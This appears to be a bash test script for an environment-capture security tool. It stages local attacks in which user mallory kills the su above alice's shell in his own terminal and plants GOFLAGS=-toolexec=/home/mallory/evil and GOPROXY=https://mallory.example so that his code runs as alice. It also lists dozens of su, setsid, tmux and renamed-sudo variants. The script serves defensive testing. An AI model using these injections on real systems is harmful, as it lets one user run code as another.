# Terminals: alice becomes alice in mallory's terminal, and what shows that is gone before she captures a snapshot.
#
# alice types her password into mallory's terminal: `su alice`. mallory may kill that su, because it has his real user id.
# The first process is then the parent of alice's shell, and only alice's processes are above it. Expected: the capture is
# refused, because the terminal, the session or what the descriptors lead to is mallory's. A session of alice's own, however
# it was started, still captures.
# shellcheck shell=bash disable=SC1003,SC2016,SC2034,SC2154

# terminal [--owner USER] COMMAND...: COMMAND leads a session on a new terminal, as below sshd or in a window. The terminal
# belongs to the caller, or is given to USER, as sshd and WSL's init do.
cat >/run/bin/terminal <<'END'
#!/usr/bin/python3
import fcntl, os, pwd, sys, termios
arguments = sys.argv[1:]
master, slave = os.openpty()
if arguments[0] == '--owner':
    os.fchown(slave, pwd.getpwnam(arguments[1]).pw_uid, -1)
    arguments = arguments[2:]
os.chmod(os.ttyname(slave), int(os.environ.get('TERMINAL_MODE', '620'), 8))
if os.fork() == 0:
    os.close(master)
    os.setsid()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    for descriptor in range(3):
        os.dup2(slave, descriptor)
    os.execvp(arguments[0], arguments)
os.close(slave)
while True:
    try:
        piece = os.read(master, 4096)
    except OSError:
        break
    if not piece:
        break
    os.write(1, piece)
END
# mallory's: kills the su that alice's shell is below, as soon as the shell is there.
cat >/run/bin/kills <<'END'
#!/bin/bash
until [ -s /run/notes/parent ]; do sleep 0.02; done
kill -KILL "$(cat /run/notes/parent)" && touch /run/notes/killed
touch /run/notes/go
END
# alice's shell. It goes on when the su is gone.
cat >/run/bin/shell <<'END'
#!/bin/bash
trap '' HUP TTIN TTOU
echo $PPID >/run/notes/parent
until [ -e /run/notes/go ]; do sleep 0.02; done
exec /run/bin/captures
END
cat >/run/bin/captures <<'END'
#!/bin/bash
export HOME=~alice
cd
env >/run/notes/seen
ps -ww -o user,pid,ppid,sess,tty,args --forest -e >/run/notes/processes
gowrap env capture 2>/run/notes/why
echo "captured with $?" >>/run/proof
touch /run/notes/finished
END
chmod 755 /run/bin/{terminal,kills,shell,captures}

finished() { for _ in $(seq 200); do [ -e /run/notes/finished ] && return; sleep 0.05; done; return 1; }

# WAY...: as `below`, the first one in a terminal of mallory's. What the way leads through is killed before the capture.
killed() {
    evil /home/mallory/evil
    GIVEN=(GOFLAGS=-toolexec=/home/mallory/evil GOPROXY=https://mallory.example "TERMINAL_MODE=${mode-620}")
    as mallory '/run/bin/kills >/dev/null 2>&1 </dev/null & exit'
    local ways=("$@") next=${shell-/run/bin/shell} depth
    mkdir -p /run/chain
    for ((depth = ${#ways[@]} - 1; depth >= 0; depth--)); do
        printf '#!/bin/bash\n%s\nfor _ in $(seq 100); do [ -e /run/notes/finished ] && break; sleep 0.05; done\n' "${ways[depth]//SHELL/$next}" >/run/chain/$depth
        next=/run/chain/$depth
    done
    chmod 755 /run/chain/*
    as mallory "timeout 20 /run/bin/terminal $next"
    finished
    control 'the capture was tried' proof 'captured with [0-9]+'
    [ -n "${nothing_to_kill-}" ] || control 'su was killed' test -e /run/notes/killed
    control "no process of mallory's is above" none grep -aq 'belongs to user .*bash' /run/notes/why
    control "it had mallory's variables" grep -aq mallory.example /run/notes/seen
    stripped alice 'go build'
    control 'go ran as alice' proof 'alice ran /usr/bin/go build'
    "${outcome-harm}" "mallory's program ran as alice, from cron" proof 'alice ran evil'
    "${outcome-harm}" "alice's go has a value of mallory's, from cron" proof 'alice has GO[A-Z]*=.*mallory.*'
    cat /run/notes/why /run/notes/processes
}

# The same with a login that the kernel was told of, as pam_loginuid(8) tells it.
with_login() {
    echo "$(id -u mallory)" >/proc/self/loginuid 2>/dev/null || { cannot 'no /proc/PID/loginuid'; return; }
    killed "$@"
}
with_hidden_processes() {
    mount -o remount,hidepid=2 /proc 2>/dev/null || { cannot 'no /proc with hidepid=2'; return; }
    killed "$@"
}
with_tmux() {
    command -v tmux >/dev/null || { cannot 'no tmux'; return; }
    "$@"
}
# A shell of alice's that leaves mallory's terminal before she captures.
shell_that() {
    printf '#!/bin/bash\ntrap "" HUP TTIN TTOU\nexport SHELL=/bin/bash\necho $PPID >/run/notes/parent\nuntil [ -e /run/notes/go ]; do sleep 0.02; done\n%s\nsleep 3\n' "$1" >/run/bin/leaves
    chmod 755 /run/bin/leaves
    shell=/run/bin/leaves
    "${@:2}"
}
no_rule_prevents() {
    outcome=known
    "$@"
}
# sudo by another name, which no process of mallory's is above.
sudo_renamed() {
    ln -s "$(command -v sudo)" /home/mallory/init
    nothing_to_kill=yes killed "setsid -f ~/init -Eu alice env -u SUDO_UID -u SUDO_GID -u SUDO_USER -u SUDO_COMMAND /run/bin/captures $1"
}
in_mode() { mode=$1; killed "${@:2}"; }

# A session of alice's own captures. COMMAND...: run by root in a machine with no other session.
captures() {
    "$@"
    finished
    control 'it is one' proof 'captured with [0-9]+'
    harm "alice's own session is refused: $(cat /run/notes/why)" none proof 'captured with 0'
    cat /run/notes/processes
}
# Starts a session as sshd, login and WSL's init do: root makes the terminal and gives it to alice. She or root leads the
# session.
as_sshd() { /run/bin/terminal --owner alice setpriv --reuid alice --regid alice --init-groups "$@"; }
as_wsl() { /run/bin/terminal --owner alice bash -c "setpriv --reuid alice --regid alice --init-groups $*; :"; }
as_login() { echo "$(id -u "$1")" >/proc/self/loginuid 2>/dev/null || { cannot 'no /proc/PID/loginuid'; return; }; as_sshd /run/bin/captures; }
by_alice() { as alice "$*"; }

attack 'su' killed 'su -s SHELL alice'
attack 'exec su' killed 'bash -c "exec su -s SHELL alice"'
attack 'su -p' killed 'su -p -s SHELL alice'
attack 'su --session-command' killed 'su --session-command=SHELL alice'
attack 'su -c, which makes a session' killed 'su -c SHELL alice'
attack 'setsid su' killed 'setsid -w su -s SHELL alice'
attack 'setsid su, its descriptors through /dev/tty' killed 'setsid -w su -s SHELL alice </dev/tty >/dev/tty 2>&1'
attack 'setsid su, only its input is the terminal' killed 'setsid -w su -s SHELL alice >/dev/null 2>&1'
attack 'su, its descriptors are /dev/null' killed 'su -s SHELL alice </dev/null >/dev/null 2>&1'
attack "su without a terminal, its descriptors are /dev/null, its leader is mallory's shell" killed 'setsid -w bash -c "su -s SHELL alice </dev/null >/dev/null 2>&1; sleep 3"'
attack 'su, its descriptors are closed' killed 'su -s SHELL alice <&- >&- 2>&-'
attack 'setsid su, its input is a pipe' killed 'sleep 5 | setsid -w su -s SHELL alice >/dev/null 2>&1'
attack 'setsid su, its output is a pipe' killed 'setsid -w su -s SHELL alice </dev/null 2>&1 | cat'
attack 'setsid su, its input is a FIFO' killed 'mkfifo -m 666 ~/fifo; setsid -w su -s SHELL alice <>~/fifo >/dev/null 2>&1'
attack 'setsid su, its input is a socket' killed 'setsid -w python3 -c "import os, socket; a, b = socket.socketpair(); os.dup2(a.fileno(), 0); os.execvp(\"su\", [\"su\", \"-s\", \"SHELL\", \"alice\"])" >/dev/null 2>&1'
attack 'nohup su' killed 'nohup su -s SHELL alice'
attack 'su in a terminal that all users may open' in_mode 666 'su -s SHELL alice'
attack 'setsid su in a terminal that all users may open' in_mode 666 'setsid -w su -s SHELL alice'
attack 'su in a terminal of script(1)' killed 'script -qc "su -s SHELL alice" /dev/null'
attack 'su --pty to mallory, then su' killed 'su --pty mallory -c /run/chain/1' 'su -s SHELL alice'
attack 'su --pty to mallory, then setsid su' killed 'su --pty mallory -c /run/chain/1' 'setsid -w su -s SHELL alice'
attack 'su --pty to mallory, then setsid su through /dev/tty' killed 'su --pty mallory -c /run/chain/1' 'setsid -w su -s SHELL alice </dev/tty >/dev/tty 2>&1'
attack 'sudo to mallory, then su' killed 'sudo -u mallory GOFLAGS=$GOFLAGS GOPROXY=$GOPROXY env -u SUDO_UID -u SUDO_GID -u SUDO_USER -u SUDO_COMMAND /run/chain/1' 'su -s SHELL alice'
attack 'su to mallory, then su' killed 'su mallory -c /run/chain/1' 'su -s SHELL alice'
attack 'hidepid=2: su' with_hidden_processes 'su -s SHELL alice'
attack 'hidepid=2: su --pty to mallory, then su' with_hidden_processes 'su --pty mallory -c /run/chain/1' 'su -s SHELL alice'
attack 'alice starts script(1) in it' shell_that 'exec script -qc /run/bin/captures /dev/null' killed 'su -s SHELL alice'
attack 'alice starts script(1) in a session without a terminal' shell_that 'exec setsid -w script -qc /run/bin/captures /dev/null' killed 'su -s SHELL alice'
attack 'alice starts script(1) in a session without a terminal, below su --pty' shell_that 'exec script -qc /run/bin/captures /dev/null' killed 'su --pty mallory -c /run/chain/1' 'setsid -w su -s SHELL alice'
attack 'alice starts a process in the background' shell_that 'nohup /run/bin/captures &' killed 'su -s SHELL alice'
attack 'alice leaves the session' shell_that 'setsid -f /run/bin/captures' killed 'su -s SHELL alice'
attack 'alice starts a tmux in it, after a login of mallory' with_tmux shell_that 'tmux -L own new-session -d /run/bin/captures' with_login 'su -s SHELL alice'
attack 'alice leaves the session and the terminal, after a login of mallory' shell_that 'setsid -f /run/bin/captures </dev/null >/dev/null 2>&1' with_login 'su -s SHELL alice'
attack 'after a login of mallory: su, its descriptors are /dev/null' with_login 'setsid -w su -s SHELL alice </dev/null >/dev/null 2>&1'

attack 'sudo by another name, on a terminal' sudo_renamed ''
attack 'sudo by another name, without a terminal' sudo_renamed '</dev/null >/dev/null 2>&1'
attack 'alice starts a tmux in it' no_rule_prevents with_tmux shell_that 'tmux -L own new-session -d /run/bin/captures' killed 'su -s SHELL alice'
attack 'setsid su, its descriptors are /dev/null' no_rule_prevents killed 'setsid -w su -s SHELL alice </dev/null >/dev/null 2>&1'

attack 'own: as below sshd' captures as_sshd /run/bin/captures
attack 'own: as below sshd, a shell' captures as_sshd bash -c '/run/bin/captures; :'
attack "own: as below WSL's init" captures as_wsl /run/bin/captures
attack 'own: as below sshd, with script(1)' captures as_sshd script -qc /run/bin/captures /dev/null
attack 'own: as below sshd, through /dev/tty' captures as_sshd bash -c '/run/bin/captures </dev/tty >/dev/tty; :'
attack 'own: a window of her own' captures by_alice /run/bin/terminal /run/bin/captures
attack 'own: tmux in a window of her own' with_tmux captures by_alice '/run/bin/terminal tmux -L own new-session -d /run/bin/captures'
attack 'own: tmux in which a window is opened later' with_tmux captures by_alice "/run/bin/terminal bash -c 'tmux -L own new-session -d \"sleep 5\"'; tmux -L own new-window -d /run/bin/captures"
attack "own: an editor's server, which opens a terminal" captures by_alice '(setsid nohup bash -c "/run/bin/terminal /run/bin/captures" </dev/null >/dev/null 2>&1 &)'
attack "own: an editor's server, which starts a shell on pipes" captures by_alice '(setsid nohup bash -c "sleep 5 | /run/bin/captures | cat" </dev/null >/dev/null 2>&1 &)'
attack 'own: a process whose session has ended' captures by_alice '/run/bin/terminal bash -c "nohup /run/bin/captures </dev/null >/dev/null 2>&1 & disown; sleep 0.2"'
attack 'own: as cron starts it' captures stripped alice /run/bin/captures
attack 'own: a script without any descriptor' captures by_alice '/run/bin/captures <&- >&-'
attack "own: su - in a terminal of root's" captures /run/bin/terminal su - alice -c /run/bin/captures
attack "own: su in a terminal of root's" captures /run/bin/terminal su -s /run/bin/captures alice
attack "own: su --pty in a terminal of root's" captures /run/bin/terminal su --pty - alice -c /run/bin/captures
attack 'own: the login was hers' captures as_login alice
attack 'own: the login was that of root' captures as_login root
